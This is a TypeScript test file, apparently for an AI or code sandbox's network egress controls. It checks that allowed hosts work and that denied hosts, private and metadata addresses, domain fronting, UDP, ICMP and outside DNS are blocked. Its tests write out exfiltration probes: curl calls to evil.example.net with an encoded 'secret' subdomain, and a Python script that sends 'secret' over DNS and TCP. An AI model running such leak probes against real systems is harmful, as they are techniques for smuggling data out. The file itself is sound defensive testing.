import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { textWith } from "../support/network/canary.ts";
import { createInside, type Inside } from "../support/network/inside.ts";
import { PUBLIC, ports } from "../support/network/internet.ts";
import { MACHINE_ADDRESS } from "../support/network/namespaces.ts";
import { useMachine } from "../support/network/run-in.ts";

const machine = useMachine();
const seen = () => machine.internet.world.seen({ take: true });
const packets = () => machine.internet.world.packets();
/**
 * Returns the number of packets once earlier traffic has stopped, including connections that were kept open for a
 * while.
 */
async function packetsWhenQuiet(): Promise<number> {
  const { world } = machine.internet;
  await expect.poll(() => world.open(), { timeout: 90_000 }).toBe(0);
  let last = await packets();
  const isStill = async () => {
    const before = last;
    last = await packets();
    return last === before;
  };
  await expect.poll(isStill, { interval: 500, timeout: 90_000 }).toBe(true);
  return last;
}
const EVIL = "151.101.1.66";

describe("programs without proxy support", () => {
  let inside: Inside;
  beforeAll(async () => {
    const network = `api.example.com,api.example.com:${ports.echo},git.example.com,private.example.com,metadata.example.com,GET cdn.example.net/public,transparent`;
    const argv = ["--network", network, "--secret", "KEY@git.example.com;from=env:RIG_CANARY"];
    inside = await createInside(machine, argv, { env: { RIG_CANARY: machine.internet.canary } });
  });
  afterAll(() => inside.remove());
  const curl = async (argv: string) => {
    const { code, stdout, stderr } = await inside.sh(`curl -sS --max-time 5 --noproxy '*' ${argv}`);
    return { code, said: stdout + stderr };
  };

  test("reach allowed hosts by name over http, https and other protocols", async () => {
    await seen();
    expect((await curl("http://api.example.com/plain")).said).toContain('"path":"/plain"');
    expect((await curl("https://api.example.com/secure")).said).toContain('"path":"/secure"');
    const echo = `import socket; s = socket.create_connection(("api.example.com", ${ports.echo}), 5); s.sendall(b"ping"); print(s.recv(4))`;
    expect(await inside.ok(`python3 -c '${echo}'`)).toBe("b'ping'\n");
    const url = machine.internet.repository("tools");
    expect(
      await inside.ok(`cd /tmp && env -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY git clone -q ${url} && cat tools/README`),
    ).toBe("from the rig\n");
    const { connections } = await seen();
    expect(new Set(connections.map(({ address }) => address))).toEqual(new Set([PUBLIC, "140.82.112.4"]));
  });

  test("learn why a host is denied, and no packet leaves", async () => {
    await curl("http://api.example.com/");
    await seen();
    const before = await packetsWhenQuiet();
    expect((await curl("http://evil.example.net/")).said).toMatch(/evil\.example\.net is not on this sandbox's list of allowed hosts/);
    expect((await curl("https://evil.example.net/")).said).toMatch(/alert|unrecognized name/i);
    expect((await curl(`http://${EVIL}/`)).said).toMatch(/is not on this sandbox's list/);
    expect((await curl(`https://${EVIL}/`)).code).not.toBe(0);
    expect((await curl("http://c2VjcmV0.evil.example.net/")).said).toMatch(/is not on this sandbox's list/);
    expect(await packets()).toBe(before);
    expect((await seen()).questions).toEqual([]);
  });

  test("cannot reach private addresses", async () => {
    await seen();
    await machine.internet.machine.seen({ take: true });
    for (const host of [
      "10.0.0.5",
      "169.254.169.254",
      "192.168.7.7",
      "[fd00:ec2::254]",
      MACHINE_ADDRESS,
      "private.example.com",
      "metadata.example.com",
    ]) {
      expect((await curl(`-o /dev/null -w '%{http_code}' http://${host}/`)).said, host).toMatch(/^403$|curl/);
    }
    expect((await seen()).connections).toEqual([]);
    expect((await machine.internet.machine.seen({ take: true })).connections).toEqual([]);
  });

  test("reach the host that they name, not the address that they connect to", async () => {
    await seen();
    expect((await curl(`--connect-to api.example.com:80:${EVIL}:80 http://api.example.com/fronted`)).said).toContain('"path":"/fronted"');
    expect((await curl(`--connect-to api.example.com:443:${EVIL}:443 https://api.example.com/fronted`)).said).toContain(
      '"path":"/fronted"',
    );
    expect((await seen()).connections.map(({ address }) => address)).toEqual([PUBLIC, PUBLIC]);
    expect((await curl(`--connect-to evil.example.net:443:${PUBLIC}:443 -k https://evil.example.net/`)).code).not.toBe(0);
    expect((await curl(`--connect-to evil.example.net:80:${PUBLIC}:80 http://evil.example.net/`)).said).toMatch(
      /not on this sandbox's list/,
    );
    const { hellos, requests } = await seen();
    expect([hellos, requests]).toEqual([[], []]);
  });

  test("cannot use UDP, ICMP or another name server", async () => {
    await inside.ok("true");
    const before = await packetsWhenQuiet();
    const leaks = `
import socket
for address, family in (("${PUBLIC}", socket.AF_INET), ("1.1.1.53", socket.AF_INET), ("8.8.8.8", socket.AF_INET), ("2606:4700::1111", socket.AF_INET6)):
    for port in (53, 443, 9999):
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.2)
        try: s.sendto(b"\\\\x12\\\\x34\\\\x01\\\\0\\\\0\\\\x01\\\\0\\\\0\\\\0\\\\0\\\\0\\\\0\\\\x06secret\\\\x04evil\\\\x07example\\\\x03net\\\\0\\\\0\\\\x10\\\\0\\\\x01", (address, port)); s.recv(512)
        except OSError: pass
    for port in (25, 8080, 6667):
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(1)
        try: s.connect((address, port)); s.send(b"secret"); print("sent", address, port, s.recv(10))
        except OSError: pass
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\\\\x08\\\\0\\\\xf7\\\\xff\\\\0\\\\0\\\\0\\\\0", ("${PUBLIC}", 0))
except OSError: pass
print("done")`;
    expect(await inside.ok(`python3 -c '${leaks}'`)).toMatch(/done\n$/);
    expect(await packets()).toBe(before);
  });

  test("obey path rules and get secrets", async () => {
    await seen();
    expect((await curl("https://cdn.example.net/public/x")).said).toContain('"path":"/public/x"');
    expect((await curl("https://cdn.example.net/other")).said).toMatch(/path_not_allowed/);
    const response = (await curl('-H "Authorization: Bearer $KEY" https://git.example.com/')).said;
    expect((await seen()).requests.map(({ headers }) => headers.authorization)).toEqual([undefined, `Bearer ${machine.internet.canary}`]);
    expect(response).toMatch(/"authorization":"Bearer ghp_\w{36}"/);
    expect(textWith(response, machine.internet.canary)).toEqual([]);
  });

  test("lose open connections on a change, and fail closed when the server is killed", async () => {
    const streaming = machine.start([
      "exec",
      "--sandbox",
      inside.id,
      "--",
      "curl",
      "-sSN",
      "--noproxy",
      "*",
      "https://api.example.com/stream?pieces=10000&ms=20",
    ]);
    await streaming.says(/data: 3/);
    expect((await machine.run(["net", "deny", inside.id, "api.example.com"])).code).toBe(0);
    expect((await streaming.finished).code).not.toBe(0);
    expect((await curl("http://api.example.com/")).said).toMatch(/is not on this sandbox's list/);
    expect((await machine.run(["net", "allow", inside.id, "api.example.com", `api.example.com:${ports.otherHttp}`])).code).toBe(0);
    expect((await curl("http://api.example.com:8080/")).said).toContain('"path":"/"');
    const { servedBy } = JSON.parse((await machine.run(["net", "show", inside.id, "--json"])).stdout) as { servedBy: number };
    const script = "echo ready; sleep 0.5; curl -sS --max-time 3 --noproxy '*' http://api.example.com/; echo $?";
    const waiting = machine.start(["exec", "--sandbox", inside.id, "--", "sh", "-c", script]);
    await waiting.says(/ready/);
    await seen();
    process.kill(servedBy, "SIGKILL");
    expect((await waiting.finished).stdout).not.toContain('"path"');
    expect((await seen()).connections).toEqual([]);
    expect((await curl("http://api.example.com/")).said).toContain('"path":"/"');
  });
});
